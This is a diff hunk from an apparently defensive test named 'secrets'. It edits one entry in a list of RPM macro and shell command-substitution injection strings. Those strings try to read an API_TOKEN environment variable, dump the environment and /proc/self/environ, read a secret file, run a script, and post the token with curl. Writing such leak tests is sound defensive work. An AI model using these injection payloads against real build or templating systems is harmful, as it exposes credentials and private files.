@@ -129,7 +129,7 @@ def secrets(_):
     for text in ("%{getenv:API_TOKEN}", "%(echo $API_TOKEN)", "%(printenv)", "%(cat @O@/secret)", "%(cat < @O@/secret)", "%(ls @O@/folder)", "%(. @O@/secret)",
                  "%{uncompress:@O@/secret}", "%{uncompress:/proc/self/environ}", "%(echo @O@/folder/*)", "%(cd @O@; echo *)", "%{echo:%{getenv:API_TOKEN}}",
                  "%{warn:%{getenv:API_TOKEN}}", "%{error:%{getenv:API_TOKEN}}", "%{basename:%{getenv:API_TOKEN}}", "%{S:%{getenv:API_TOKEN}}", "%{dump}", "%trace",
-                 "%{exists:@O@/folder/c4n4ry-of-the-caller.txt}", "%(env | base64)", "%(sed s/x/x/ @O@/secret)", "%(awk '{print}' @O@/secret)",
+                 "%{exists:@O@/folder/*.txt}", "%(env | base64)", "%(sed s/x/x/ @O@/secret)", "%(awk '{print}' @O@/secret)",
                  "%(awk 'BEGIN{print ENVIRON[\"API_TOKEN\"]}')", "%(awk 'BEGIN{while ((getline l < \"@O@/secret\") > 0) print l}')", "%(grep . @O@/secret)",
                  "%(head -1 @O@/secret)", "%(read x < @O@/secret; echo $x)", "%(printf %s \"$(<@O@/secret)\")", "%(test -s @O@/secret && echo x)", "%(sh @O@/run.sh)",
                  "%(curl -d \"$API_TOKEN\" http://127.0.0.1:9/)", "%(echo ${API_TOKEN#c} ${!API_TOKEN} ${API_TOKEN:-x})", "%(set)", "%(export -p)", "%(declare -p)"):
